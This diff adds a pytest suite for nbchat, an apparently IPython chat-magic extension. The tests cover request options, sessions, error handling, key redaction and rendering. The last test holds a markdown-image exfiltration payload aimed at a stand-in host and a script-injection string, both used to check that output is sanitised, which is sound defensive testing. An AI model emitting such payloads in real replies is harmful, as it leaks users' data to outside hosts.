@@ -1,0 +1,327 @@
+from __future__ import annotations
+
+import json
+
+import httpx
+import pytest
+from IPython.core.displaypub import DisplayPublisher
+from IPython.core.error import UsageError
+from IPython.testing import globalipapp
+
+import nbchat
+from nbchat import _sessions
+from tests.fakeserver import SECRET, FakeServer, sse_events
+
+
+class RecordingPublisher(DisplayPublisher):
+    def __init__(self, **kwargs):
+        super().__init__(**kwargs)
+        self.outputs: list[dict] = []
+
+    def publish(self, data, metadata=None, source=None, *, transient=None, update=False, **kw):
+        self.outputs.append({"data": data, "transient": transient, "update": update})
+
+    def clear_output(self, wait=False):
+        pass
+
+    def text(self) -> str:
+        return "\n".join(json.dumps(o["data"], ensure_ascii=False) for o in self.outputs)
+
+
+@pytest.fixture
+def shell(monkeypatch):
+    globalipapp.start_ipython()
+    ip = globalipapp.get_ipython()
+    ip.run_line_magic("load_ext", "nbchat")
+    publisher = RecordingPublisher(shell=ip)
+    monkeypatch.setattr(ip, "display_pub", publisher)
+    ip.run_line_magic("config", "Chat.display = 'live'")
+    ip.run_line_magic("config", "Chat.model = 'fake-model'")
+    server = FakeServer()
+    monkeypatch.setattr(_sessions, "client_for", lambda settings: server.client())
+    _sessions._sessions.clear()
+    ip.server = server
+    ip.publisher = publisher
+    yield ip
+    _sessions._sessions.clear()
+    # Forget this test's settings: the next load_ext starts from the defaults.
+    ip.run_line_magic("unload_ext", "nbchat")
+    ip.config.pop("Chat", None)
+
+
+def final_markdown(ip) -> str:
+    outputs = [o for o in ip.publisher.outputs if "text/markdown" in o["data"]]
+    return outputs[-1]["data"]["text/markdown"]
+
+
+def test_cell_body_is_sent_as_the_user_message_and_streams(shell):
+    shell.server.reply("Hi there, friend.")
+    shell.run_cell_magic("chat", "", "Say hello")
+    body = shell.server.last
+    assert body["messages"] == [{"role": "user", "content": "Say hello"}]
+    assert body["model"] == "fake-model"
+    assert body["stream"] is True
+    assert body["stream_options"] == {"include_usage": True}
+    markdown = final_markdown(shell)
+    assert "Hi there, friend." in markdown
+    assert "10 prompt + 5 completion = 15 tokens" in markdown
+
+
+def test_every_option_reaches_the_request_body(shell):
+    shell.server.reply("ok")
+    shell.run_cell_magic(
+        "chat",
+        "-m other -s 'Be brief.' -t 0.5 --top-p 0.9 --max-tokens 50 -n 2 --stop END "
+        "--stop STOP --presence-penalty 0.1 --frequency-penalty -0.2 --logit-bias 50256=-100 "
+        "--seed 7 --user u1 --store --no-stream",
+        "Go",
+    )
+    body = shell.server.last
+    assert body["model"] == "other"
+    assert body["messages"][0] == {"role": "system", "content": "Be brief."}
+    assert body["temperature"] == 0.5
+    assert body["top_p"] == 0.9
+    assert body["max_tokens"] == 50
+    assert body["n"] == 2
+    assert body["stop"] == ["END", "STOP"]
+    assert body["presence_penalty"] == 0.1
+    assert body["frequency_penalty"] == -0.2
+    assert body["logit_bias"] == {"50256": -100}
+    assert body["seed"] == 7
+    assert body["user"] == "u1"
+    assert body["store"] is True
+    assert "stream" not in body
+
+
+def test_out_of_range_value_is_a_usage_error_and_nothing_is_sent(shell):
+    with pytest.raises(UsageError, match="temperature"):
+        shell.run_cell_magic("chat", "-t 5", "hi")
+    with pytest.raises(UsageError):
+        shell.run_cell_magic("chat", "--bogus", "hi")
+    with pytest.raises(UsageError, match="logit"):
+        shell.run_cell_magic("chat", "--logit-bias abc", "hi")
+    assert shell.server.requests == []
+
+
+def test_line_magic_sends_the_rest_of_the_line_with_quotes_intact(shell):
+    shell.server.reply("fine")
+    shell.run_line_magic("chat", '-t 0 What\'s the "best" way?')
+    body = shell.server.last
+    assert body["messages"][-1]["content"] == 'What\'s the "best" way?'
+    assert body["temperature"] == 0
+
+
+def test_variables_are_interpolated_but_json_and_fences_are_not(shell):
+    shell.user_ns["city"] = "Beijing"
+    shell.server.reply("ok")
+    shell.run_cell_magic(
+        "chat", "", 'Weather in {city}? Reply like {"temp": 1}.\n```\nprint({city})\n```'
+    )
+    sent = shell.server.last["messages"][-1]["content"]
+    assert sent == 'Weather in Beijing? Reply like {"temp": 1}.\n```\nprint({city})\n```'
+
+
+def test_undefined_name_in_braces_is_a_clear_error_and_nothing_is_sent(shell):
+    with pytest.raises(UsageError, match=r"undefined_thing.*\{\{undefined_thing\}\}"):
+        shell.run_cell_magic("chat", "", "Use {undefined_thing}")
+    assert shell.server.requests == []
+    shell.server.reply("ok")
+    shell.run_cell_magic("chat", "--no-interpolate", "Use {undefined_thing}")
+    assert shell.server.last["messages"][-1]["content"] == "Use {undefined_thing}"
+
+
+def test_conversation_carries_across_cells_and_sessions_are_separate(shell):
+    shell.server.reply("first answer").reply("second answer").reply("other")
+    shell.run_cell_magic("chat", "", "one")
+    shell.run_cell_magic("chat", "", "two")
+    assert [m["content"] for m in shell.server.last["messages"]] == [
+        "one",
+        "first answer",
+        "two",
+    ]
+    shell.run_cell_magic("chat", "--session side", "three")
+    assert shell.server.last["messages"] == [{"role": "user", "content": "three"}]
+    assert len(nbchat.session("default")) == 4
+
+
+def test_reset_undo_and_new(shell, capsys):
+    shell.server.reply("a").reply("b").reply("c")
+    shell.run_cell_magic("chat", "", "one")
+    shell.run_cell_magic("chat", "", "two")
+    shell.run_line_magic("chat", "undo")
+    assert [m["content"] for m in nbchat.session().messages] == ["one", "a"]
+    shell.run_line_magic("chat", "reset")
+    assert nbchat.session().messages == []
+    shell.run_cell_magic("chat", "", "three")
+    shell.server.reply("d")
+    shell.run_cell_magic("chat", "--new", "four")
+    assert shell.server.last["messages"] == [{"role": "user", "content": "four"}]
+    shell.run_line_magic("chat", "sessions")
+    assert "default: 2 messages" in capsys.readouterr().out
+
+
+def test_history_renders_the_conversation(shell):
+    shell.server.reply("an answer")
+    shell.run_cell_magic("chat", "", "a question")
+    shell.run_line_magic("chat", "history")
+    markdown = final_markdown(shell)
+    assert "**user**: a question" in markdown
+    assert "**assistant**: an answer" in markdown
+
+
+def test_out_stores_the_reply_text(shell):
+    shell.server.reply("stored text")
+    shell.run_cell_magic("chat", "-o answer", "hi")
+    assert shell.user_ns["answer"] == "stored text"
+    assert nbchat.last.content == "stored text"
+
+
+def test_http_error_shows_a_card_fails_the_cell_and_keeps_history(shell):
+    shell.server.reply("fine")
+    shell.run_cell_magic("chat", "", "one")
+    before = nbchat.session().messages
+    shell.server.error(
+        401,
+        f"Incorrect API key provided: {SECRET}",
+        type="authentication_error",
+        code="invalid_api_key",
+    )
+    result = shell.run_cell("%%chat\ntwo")
+    assert result.error_in_exec is not None
+    assert type(result.error_in_exec).__name__ == "ChatCellError"
+    card = [o for o in shell.publisher.outputs if "text/html" in o["data"]][-1]["data"]
+    assert "AuthenticationError" in card["text/html"]
+    assert "OPENAI_API_KEY" in card["text/html"]
+    assert nbchat.session().messages == before
+    assert SECRET not in shell.publisher.text()
+    assert SECRET not in str(result.error_in_exec)
+
+
+def test_context_length_error_suggests_reset(shell):
+    shell.server.error(
+        400,
+        "This model's maximum context length is 128000 tokens.",
+        code="context_length_exceeded",
+        param="messages",
+    )
+    result = shell.run_cell("%%chat\nlong")
+    assert result.error_in_exec is not None
+    card = shell.publisher.outputs[-1]["data"]["text/plain"]
+    assert "context_length_exceeded" in card
+    assert "%chat reset" in card
+    assert "param: messages" in card
+
+
+def test_interrupted_stream_keeps_the_partial_reply_marked(shell, monkeypatch):
+    completion = {
+        "id": "c",
+        "created": 1,
+        "model": "fake-model",
+        "choices": [
+            {
+                "index": 0,
+                "message": {"role": "assistant", "content": "abcdefghij"},
+                "finish_reason": "stop",
+            }
+        ],
+        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
+    }
+
+    def events():
+        for i, event in enumerate(sse_events(completion, piece=2)):
+            if i == 3:
+                raise KeyboardInterrupt
+            yield event
+
+    client = nbchat.Client(
+        api_key=SECRET,
+        base_url="http://fake.test/v1",
+        transport=httpx.MockTransport(lambda request: httpx.Response(200, content=events())),
+    )
+    monkeypatch.setattr(_sessions, "client_for", lambda settings: client)
+    result = shell.run_cell("%%chat\ninterrupt me")
+    assert type(result.error_in_exec).__name__ == "ChatCellError"
+    chat = nbchat.session()
+    assert chat.messages == [
+        {"role": "user", "content": "interrupt me"},
+        {"role": "assistant", "content": "abcd"},
+    ]
+    assert chat.interrupted == [1]
+    assert "Interrupted" in final_markdown(shell)
+
+
+def test_live_updates_are_coalesced_for_a_long_stream(shell):
+    shell.server.piece = 1
+    shell.server.reply("x" * 3000)
+    shell.run_cell_magic("chat", "", "long")
+    updates = [o for o in shell.publisher.outputs if o["update"]]
+    # 3000 chunks arrive within well under a second here: a handful of updates at most.
+    assert len(updates) < 60
+    assert "x" * 3000 in final_markdown(shell)
+
+
+def test_no_stream_and_display_final(shell):
+    shell.run_line_magic("config", "Chat.display = 'final'")
+    shell.server.reply("whole")
+    shell.run_cell_magic("chat", "", "hi")
+    assert not any(o["update"] for o in shell.publisher.outputs)
+    assert "whole" in final_markdown(shell)
+
+
+def test_text_display_prints_plain_text(shell, capsys):
+    shell.run_line_magic("config", "Chat.display = 'text'")
+    shell.server.reply("plain words")
+    shell.run_cell_magic("chat", "", "hi")
+    out = capsys.readouterr().out
+    assert "plain words" in out
+    assert "15 tokens" in out
+
+
+def test_raw_shows_the_exchange_without_the_key(shell):
+    shell.server.reply("raw reply")
+    shell.run_cell_magic("chat", "--raw --no-stream", "hi")
+    text = shell.publisher.text()
+    assert "Request sent" in text
+    assert "chatcmpl-fake" in text
+    assert "Bearer ••••" in text
+    assert SECRET not in text
+
+
+def test_dry_run_renders_the_request_and_sends_nothing(shell):
+    shell.run_cell_magic("chat", "--dry-run -t 0.3", "hi")
+    assert shell.server.requests == []
+    text = final_markdown(shell)
+    assert '"temperature": 0.3' in text
+    assert "Dry run" in text
+    assert nbchat.session().messages == []
+
+
+def test_config_shows_settings_with_the_key_hidden(shell, monkeypatch, capsys):
+    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
+    shell.run_line_magic("chat", "config")
+    text = shell.publisher.text()
+    assert "hidden" in text
+    assert "fake-model" in text
+    assert SECRET not in text
+
+
+def test_length_finish_reason_shows_a_warning(shell):
+    shell.server.reply("cut", finish_reason="length")
+    shell.run_cell_magic("chat", "", "hi")
+    assert "max_tokens" in final_markdown(shell)
+
+
+def test_n_choices_are_each_shown_labelled(shell):
+    shell.server.reply("same", choices=2)
+    shell.run_cell_magic("chat", "-n 2 --no-stream", "hi")
+    markdown = final_markdown(shell)
+    assert "**Choice 1**" in markdown and "**Choice 2**" in markdown
+
+
+def test_model_markdown_cannot_fetch_images_or_run_html(shell):
+    shell.server.reply("See ![x](http://evil.test/?q=secret) <script>alert(1)</script>")
+    shell.run_cell_magic("chat", "", "hi")
+    markdown = final_markdown(shell)
+    assert "![" not in markdown
+    assert "<script>" not in markdown
+    assert "[🖼 x](http://evil.test/?q=secret)" in markdown
